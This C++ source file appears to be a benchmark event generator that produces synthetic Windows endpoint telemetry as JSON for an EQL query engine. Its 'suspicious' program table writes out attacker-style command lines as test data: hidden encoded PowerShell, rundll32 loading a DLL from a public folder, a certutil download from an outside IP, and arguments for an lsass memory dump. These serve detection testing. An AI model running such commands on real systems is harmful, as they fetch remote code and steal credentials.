#include "bench/event_generator.h"

#include <fmt/format.h>

#include <array>
#include <iterator>

namespace eqlc::bench {
namespace {

constexpr uint64_t kStartMs = 1'767'225'600'000;  // 2026-01-01
constexpr uint64_t kStepMs = 37;                  // between events
constexpr uint32_t kHosts = 50;

// Paths as they stand in JSON.
struct Program {
  std::string_view name;
  std::string_view folder;
  std::array<std::string_view, 4> args;
};
constexpr Program kEveryday[] = {
    {"svchost.exe", R"(C:\\Windows\\System32)", {"-k", "netsvcs", "-p", "-s"}},
    {"explorer.exe", R"(C:\\Windows)", {"/factory", "{75dff2b7-6936-4c06-a8bb-676a7b00b24b}", "-Embedding", ""}},
    {"outlook.exe", R"(C:\\Program Files\\Office\\root\\Office16)", {"/recycle", "/startup", "-mode", "online"}},
    {"browser.exe", R"(C:\\Program Files\\Browser\\Application)", {"--type=renderer", "--lang=en", "--field=17", ""}},
    {"msiexec.exe", R"(C:\\Windows\\System32)", {"/V", "/i", "update.msi", "/quiet"}},
    {"code.exe", R"(C:\\Users\\ann\\AppData\\Local\\Programs\\Code)", {"--reuse-window", "src", "--wait", ""}},
    {"teams.exe", R"(C:\\Users\\bob\\AppData\\Local\\Teams\\current)", {"--process-start-args", "--minimised", "", ""}},
    {"backup.exe", R"(D:\\Backup)", {"--incremental", "--target", R"(\\\\nas\\backup)", "--verify"}},
};
constexpr Program kSuspicious[] = {
    {"powershell.exe", R"(C:\\Windows\\System32\\WindowsPowerShell\\v1.0)", {"-nop", "-w", "hidden", "-enc SQBFAFgA"}},
    {"rundll32.exe", R"(C:\\Windows\\System32)", {R"(C:\\Users\\Public\\a.dll,Start)", "", "", ""}},
    {"certutil.exe", R"(C:\\Windows\\System32)", {"-urlcache", "-split", "-f", "http://203.0.113.9/a.txt"}},
    {"update.exe", R"(C:\\Users\\ann\\AppData\\Local\\Temp)", {"/silent", "lsass", "-ma", "out.dmp"}},
};
constexpr std::string_view kUsers[] = {"ann", "bob", "carol", "dave", "SYSTEM", "NETWORK SERVICE"};
constexpr std::string_view kExtensions[] = {"docx", "tmp", "log", "json", "dll", "png", "xml", "etl"};

struct Kind {
  std::string_view category;
  std::string_view type;
  std::string_view action;
};

}  // namespace

std::string EventGenerator::Hex(size_t digits) {
  std::string text;
  while (text.size() < digits) text += fmt::format("{:016x}", random_());
  text.resize(digits);
  return text;
}

EventGenerator::Process EventGenerator::MakeProcess(bool suspicious) {
  const Program& program =
      suspicious ? kSuspicious[Below(std::size(kSuspicious))] : kEveryday[Below(std::size(kEveryday))];
  Process process{Hex(40), program.name, program.folder, {}, 1'000 + Below(60'000)};
  for (const std::string_view arg : program.args) {
    if (!arg.empty()) process.args.push_back(arg);
  }
  return process;
}

void EventGenerator::AddCommon(std::string_view category, std::string_view type, std::string_view action) {
  const uint32_t host = Below(kHosts);
  const uint64_t ms = kStartMs + kStepMs * count_;
  fmt::format_to(
      std::back_inserter(event_),
      R"({{"@timestamp":{},"agent":{{"id":"{}","type":"endpoint",)"
      R"("version":"9.2.0"}},"data_stream":{{"dataset":"endpoint.events.{}","namespace":"default","type":"logs"}},)"
      R"("ecs":{{"version":"8.11.0"}},"event":{{"action":"{}","category":["{}"],"created":{},)"
      R"("dataset":"endpoint.events.{}","id":"{}","kind":"event","module":"endpoint","outcome":"unknown",)"
      R"("sequence":{},"type":["{}"]}},"host":{{"architecture":"x86_64","hostname":"pc-{:03}",)"
      R"("id":"{:032x}","ip":["10.1.{}.{}","127.0.0.1","fe80::1c2a:{:x}"],"mac":["02-00-00-00-{:02x}-01"],)"
      R"("name":"pc-{:03}","os":{{"family":"windows","full":"Windows 11 Pro 23H2","kernel":"23H2 build 22631",)"
      R"("name":"Windows","platform":"windows","type":"windows","version":"23H2"}}}},"message":"Endpoint {} event")",
      ms, Hex(36), category, action, category, ms, category, Hex(20), count_, type, host, host, host, 7, host, host,
      host, category);
}

void EventGenerator::AddProcess(const char* key, const Process& process, const Process* parent) {
  std::string args;
  std::string line = fmt::format(R"(\"{}\\{}\")", process.folder, process.name);
  args = fmt::format(R"("{}\\{}")", process.folder, process.name);
  for (const std::string_view arg : process.args) {
    args += fmt::format(R"(,"{}")", arg);
    line += fmt::format(" {}", arg);
  }
  fmt::format_to(
      std::back_inserter(event_),
      R"("{}":{{"args":[{}],"args_count":{},"command_line":"{}",)"
      R"("code_signature":{{"exists":true,"status":"trusted","subject_name":"Example Software","trusted":true}},)"
      R"("entity_id":"{}","executable":"{}\\{}","hash":{{"md5":"{}","sha1":"{}","sha256":"{}"}},"name":"{}",)"
      R"("pid":{},"thread":{{"id":{}}})",
      key, args, process.args.size() + 1, line, process.entity_id, process.folder, process.name, Hex(32), Hex(40),
      Hex(64), process.name, process.pid, Below(9'000));
  if (parent != nullptr) {
    event_ += ',';
    AddProcess("parent", *parent, nullptr);
  }
  event_ += '}';
}

void EventGenerator::AddSubject(std::string_view category) {
  const auto out = std::back_inserter(event_);
  if (category == "file") {
    const std::string_view extension = kExtensions[Below(std::size(kExtensions))];
    const std::string name = fmt::format("report-{}.{}", Below(10'000), extension);
    fmt::format_to(out, R"(,"file":{{"extension":"{}","name":"{}","path":"C:\\Users\\ann\\Documents\\{}","size":{}}})",
                   extension, name, name, Below(1 << 20));
  } else if (category == "network") {
    fmt::format_to(out,
                   R"(,"destination":{{"address":"198.51.100.{0}","ip":"198.51.100.{0}","port":{1}}},)"
                   R"("network":{{"direction":"egress","transport":"tcp","type":"ipv4"}},)"
                   R"("source":{{"address":"10.1.7.{0}","ip":"10.1.7.{0}","port":{2}}})",
                   Below(250), Below(3) == 0 ? 80 : 443, 49'152 + Below(16'000));
  } else if (category == "library") {
    const uint32_t number = Below(200);
    fmt::format_to(
        out, R"(,"dll":{{"hash":{{"sha256":"{}"}},"name":"lib{}.dll","path":"C:\\Windows\\System32\\lib{}.dll"}})",
        Hex(64), number, number);
  } else if (category == "registry") {
    fmt::format_to(
        out,
        R"(,"registry":{{"data":{{"strings":["{}"],"type":"REG_SZ"}},"hive":"HKLM",)"
        R"("key":"SOFTWARE\\Example\\Settings","path":"HKLM\\SOFTWARE\\Example\\Settings\\v{}","value":"v{}"}})",
        Below(1'000), Below(30), Below(30));
  }
}

std::string_view EventGenerator::Next() {
  uint32_t ticket = Below(1'000);
  const auto takes = [&](uint32_t share) {
    const bool taken = ticket < share;
    ticket -= taken ? 0 : share;
    return taken;
  };
  const Kind kind = takes(mix_.process)   ? Kind{"process", "start", "start"}
                    : takes(mix_.file)    ? Kind{"file", "creation", "creation"}
                    : takes(mix_.network) ? Kind{"network", "start", "connection_attempted"}
                    : takes(mix_.library) ? Kind{"library", "start", "load"}
                                          : Kind{"registry", "change", "modification"};
  const Process process = MakeProcess(Below(1'000) < mix_.suspicious);
  const Process parent = MakeProcess(false);
  event_.clear();
  AddCommon(kind.category, kind.type, kind.action);
  event_ += ',';
  AddProcess("process", process, &parent);
  AddSubject(kind.category);
  const std::string_view user = kUsers[Below(std::size(kUsers))];
  fmt::format_to(std::back_inserter(event_), R"(,"user":{{"domain":"EXAMPLE","id":"S-1-5-21-{}","name":"{}"}}}})",
                 Below(1 << 30), user);
  ++count_;
  return event_;
}

}  // namespace eqlc::bench
